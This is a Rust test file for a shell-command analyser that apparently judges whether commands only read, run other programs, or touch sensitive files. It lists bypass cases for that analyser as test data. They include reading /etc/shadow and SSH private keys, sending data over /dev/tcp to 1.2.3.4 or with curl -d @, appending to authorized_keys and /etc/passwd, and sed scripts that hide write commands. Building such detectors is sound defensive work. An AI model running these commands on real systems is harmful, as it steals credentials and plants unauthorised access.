//! Command lines with which a review got around this reading. Each stays here.

use super::check;
use crate::{Limits, Transfer, read};

#[test]
fn sed_scripts_whose_brackets_hide_where_they_end() {
    check(&[
        ("sed 's,[],],;s,e;#,p,' x", "sed s,[],],;s,e;#,p, x +code"),
        (
            "sed 's,[],],p;s,w /tmp/w,y,' x",
            "sed [s,[],],p;s,w /tmp/w,y,] x +code",
        ),
        (
            "sed 's,[^],],p;s,w /tmp/w,y,' x",
            "sed [s,[^],],p;s,w /tmp/w,y,] x +code",
        ),
        (
            "sed 's,[[:x,],],p;s,w f,y,' x",
            "sed [s,[[:x,],],p;s,w f,y,] x +code",
        ),
        ("sed 's,[,a,w x,' x", "sed [s,[,a,w x,] x +code"),
        ("sed 's/[/]/x/' x", "sed s/[/]/x/ x +code"),
        ("sed 's/[\\]/x/w y/' x", "sed [s/[\\]/x/w y/] x +code"),
        (
            "sed 's/[0-9]/x/;s/[^a-z ]//g' x",
            "sed [s/[0-9]/x/;s/[^a-z ]//g] x +reads",
        ),
        ("sed -n '/[0-9]/p' x", "sed -n /[0-9]/p x +reads"),
    ]);
}

#[test]
fn a_builtin_that_runs_a_command() {
    check(&[
        ("jobs -x touch /tmp/p", "jobs -x touch /tmp/p !runs-others"),
        (
            "jobs -lx touch /tmp/p",
            "jobs -lx touch /tmp/p !runs-others",
        ),
        (
            "jobs $X touch /tmp/p",
            "jobs [$X]? touch /tmp/p !runs-others",
        ),
        (
            "builtin jobs -x touch /tmp/p",
            "builtin>jobs -x touch /tmp/p !runs-others",
        ),
        ("jobs -l", "jobs -l +reads"),
    ]);
}

#[test]
fn redirections_to_files_that_are_not_known() {
    check(&[
        (
            "X=/dev/tcp/1.2.3.4/443; { cat /srv/x >&3; } 3< $X",
            "cat /srv/x ; read $x !dynamic-file",
        ),
        ("cat < /etc/shad?w", "cat ; read /etc/shad?w !dynamic-file"),
        ("cat < \"$X\"", "cat ; read $x !dynamic-file"),
        ("echo x &> $X", "echo x ; write $x !dynamic-file"),
        ("cat < <(ls)", "ls ; cat ; read <(ls) +reads"),
    ]);
}

#[test]
fn more_programs_that_run_others() {
    check(&[
        ("run0 id", "run0 id !runs-others"),
        ("ctr run x y", "ctr run x y !runs-others"),
        ("sudo-rs -u bob id", "sudo-rs>(bob)id +reads"),
        ("sudo.ws -i", "sudo.ws>(root)sudo.ws -i +stdin:sudo.ws"),
    ]);
}

#[test]
fn options_of_rsync_that_do_more_than_to_choose_how() {
    let dangerous = |options: &str| {
        let text = format!("rsync --server {options} . /srv");
        match read(text.as_bytes(), &Limits::default()).transfer {
            Some(Transfer::Rsync { dangerous, .. }) => !dangerous.is_empty(),
            other => panic!("{text}: {other:?}"),
        }
    };
    for options in [
        "-s",
        "-slogDtpre.iLsfxCIvu",
        "--protect-args",
        "--secluded-args",
        "--sender -logDtpre.iLsfxCIvu --secluded-args",
        "-L",
        "--sender -k",
        "-e.x/y",
        "-e",
        "-T/tmp",
        "--timeout --sender",
        "--copy-links",
        "--compare-dest=/etc",
        "--files-from=/x",
        "--remove-source-files",
        "--anything-new",
        "--daemon",
    ] {
        assert!(dangerous(options), "{options}");
    }
    for options in [
        "-vlogDtpre.iLsfxCIvu",
        "--sender -vvnlHogDtpAXrcCIRxSze.iLsfxCIvu --numeric-ids",
        "-logDtprze.iLsfxCIvu --delete --timeout=5 --bwlimit=100 --partial",
    ] {
        assert!(!dangerous(options), "{options}");
    }
}

/// What lies elsewhere only bears the name.
#[test]
fn a_transfer_is_by_a_program_of_the_system() {
    check(&[
        (
            "/tmp/x/git-upload-pack /srv/a.git",
            "/tmp/x/git-upload-pack /srv/a.git",
        ),
        ("./scp -t /x", "./scp -t /x"),
        ("~/rsync --server . /x", "~/rsync --server . /x"),
        (
            "/usr/lib/../../tmp/sftp-server",
            "/usr/lib/../../tmp/sftp-server",
        ),
        (
            "/usr/lib/openssh/../x/sftp-server",
            "/usr/lib/openssh/../x/sftp-server",
        ),
        ("/usr/bin/scp -t /x", "/usr/bin/scp -t /x +transfer"),
        (
            "/usr/libexec/openssh/sftp-server",
            "/usr/libexec/openssh/sftp-server +transfer",
        ),
    ]);
}

#[test]
fn programs_that_only_seemed_to_read() {
    for text in [
        "nm --plugin /tmp/x.so y",
        "nm x",
        "objdump -d x",
        "readelf -a x",
        "getconf -v ../../tmp/x Y",
        "lsof -Db/tmp/x",
        "lspci -O x=y",
        "rg -z x",
        "dmesg -H",
        "git status",
        "git log",
        "systemctl status -H h x",
        "systemctl status -Hh",
        "systemctl status --host=h",
        "systemctl status -M c",
        "kubectl get pods -s http://h",
        "kubectl get -f http://h/x",
        "kubectl get --raw=/x",
        "kubectl get secret",
        "kubectl get pods,secrets",
        "kubectl get Secrets/x -o yaml",
        "kubectl get \"s$X\"",
        "kubectl cluster-info dump --output-directory=/etc",
        "docker logs -H x",
        "crontab -l -r",
        "dpkg -l --root=/x",
        "uniq a -- -out",
        "uniq - out",
        "RIPGREP_CONFIG_PATH=/x rg y",
        "SYSTEMD_PAGER=/x systemctl status",
        "DEBUGINFOD_URLS=http://h id",
        "DBUS_SYSTEM_BUS_ADDRESS=unixexec:path=/tmp/x systemctl status",
        "GETCONF_DIR=/tmp getconf X",
        "TAPE=h:/x tar t",
    ] {
        let reading = read(text.as_bytes(), &Limits::default());
        assert!(!reading.only_reads, "{text}");
    }
    for text in [
        "systemctl status -l --no-pager -n100 nginx",
        "systemctl show --property=X nginx",
        "kubectl get pods -n x -o wide",
        "kubectl logs -c x --tail=5 pod",
        "docker logs -n 5 --since=1h x",
        "crontab -l -u bob",
        "lsof -i",
        "getconf PAGESIZE",
        "uniq -c x",
        "dpkg -l bash",
        "LC_ALL=C sort x",
    ] {
        let reading = read(text.as_bytes(), &Limits::default());
        assert!(reading.only_reads, "{text}: {:?}", reading.opaque);
    }
}

/// Whatever may be a file is named; `…` stands for what is known only later.
#[test]
fn files_are_also_what_programs_are_given() {
    let named = |text: &str| {
        let reading = read(text.as_bytes(), &Limits::default());
        let all = |files: &crate::Files| {
            let mut all: Vec<String> = files.paths.iter().cloned().collect();
            all.extend(files.unknown.then(|| "…".to_owned()));
            all
        };
        (all(&reading.reads), all(&reading.writes))
    };
    for (text, file) in [
        ("cat /etc/shadow", "/etc/shadow"),
        ("base64 -w0 ~/.ssh/id_rsa", "~/.ssh/id_rsa"),
        ("cat /proc/self/environ", "/proc/self/environ"),
        ("grep -f/etc/shadow x", "/etc/shadow"),
        ("grep -nf.env x", ".env"),
        ("wc --files0-from=/etc/shadow", "/etc/shadow"),
        ("cat ~root/x", "/root/x"),
        ("curl file:///etc/shadow", "///etc/shadow"),
        ("curl -d @/etc/shadow h", "/etc/shadow"),
        ("scp /etc/shadow h:", "/etc/shadow"),
        ("dd if=/etc/shadow", "/etc/shadow"),
        ("xargs -a /etc/shadow echo", "/etc/shadow"),
        ("cd /etc; cat shadow", "/etc/shadow"),
        ("cd /etc; cat < shadow", "/etc/shadow"),
        ("bash -c 'cd /etc && cat shadow'", "/etc/shadow"),
        ("cd ~/.ssh; cat id_rsa", "~/.ssh/id_rsa"),
        ("f() { cat \"$1\"; }; f /etc/shadow", "/etc/shadow"),
        ("sudo cat /etc/shadow", "/etc/shadow"),
        ("find /root -exec cat {} +", "/root"),
        ("cat < /etc/shad?w", "…"),
        ("cat < $X", "…"),
        ("cat /etc/shad?w", "…"),
        ("cat \"$X\"", "…"),
        ("head -c9 \"-$X\"", "…"),
        ("cat ../../etc/shadow", "…"),
        ("cat /tmp/link/../shadow", "…"),
        ("cat ~bob/x", "…"),
        ("cd $X; cat shadow", "…"),
        ("cd /; cd etc; cat shadow", "…"),
        ("cd /tmp/l/..; cat shadow", "…"),
        ("pushd /etc; cat shadow", "…"),
        ("env -C /etc cat shadow", "…"),
        ("sudo -D /etc cat shadow", "…"),
        ("ls /etc/shadow | xargs cat", "…"),
        ("find / -name shadow -exec cat {} \\;", "…"),
    ] {
        let (reads, _) = named(text);
        assert!(reads.iter().any(|f| f == file), "{text}: {reads:?}");
    }
    for (text, file) in [
        ("cp k ~/.ssh/authorized_keys", "~/.ssh/authorized_keys"),
        ("tee -a /etc/passwd", "/etc/passwd"),
        ("dd of=/etc/passwd", "/etc/passwd"),
        ("ln -s x /etc/passwd", "/etc/passwd"),
        ("cp --target-directory=/etc x", "/etc"),
        ("sort -o/etc/passwd x", "/etc/passwd"),
        ("sed -i s/a/b/ /etc/passwd", "/etc/passwd"),
        ("cd /etc; tee passwd", "/etc/passwd"),
        ("find x -fprint /etc/passwd", "/etc/passwd"),
        ("find x -fprint $X", "…"),
        ("flock /etc/x id", "/etc/x"),
        ("/tmp/cat /etc/x", "/etc/x"),
        ("cp k $X", "…"),
        ("echo k | tee -a \"$X\"", "…"),
        ("echo k > $X", "…"),
        ("ls | xargs rm", "…"),
    ] {
        let (_, writes) = named(text);
        assert!(writes.iter().any(|f| f == file), "{text}: {writes:?}");
    }
    for (text, reads, writes) in [
        ("echo /etc/shadow $HOME *", &[][..], &[][..]),
        ("ls $X *.log", &["$X", "*.log", "/proc/self/environ"], &[]),
        ("cd /srv && cat a | head -n 5", &["/srv/a", "a"], &[]),
        ("uptime 2>/dev/null", &[], &["/dev/null"]),
        (
            "diff <(ls a) b",
            &["<(ls a)", "a", "b", "…"],
            &["<(ls a)", "b", "…"],
        ),
    ] {
        let found = named(text);
        let owned = |files: &[&str]| files.iter().map(|f| (*f).to_owned()).collect::<Vec<_>>();
        assert_eq!(found, (owned(reads), owned(writes)), "{text}");
    }
}

#[test]
fn many_names_in_many_directories_are_soon_unknown() {
    let dir = "d".repeat(4000);
    let mut text: String = (0..8).map(|i| format!("cd /{dir}{i};")).collect();
    text.push_str("cat");
    text.extend((0..3_000).map(|i| format!(" f{i}")));
    let reading = read(text.as_bytes(), &Limits::default());
    assert!(reading.reads.unknown);
    assert!(reading.reads.paths.iter().map(String::len).sum::<usize>() <= 256 << 10);
}
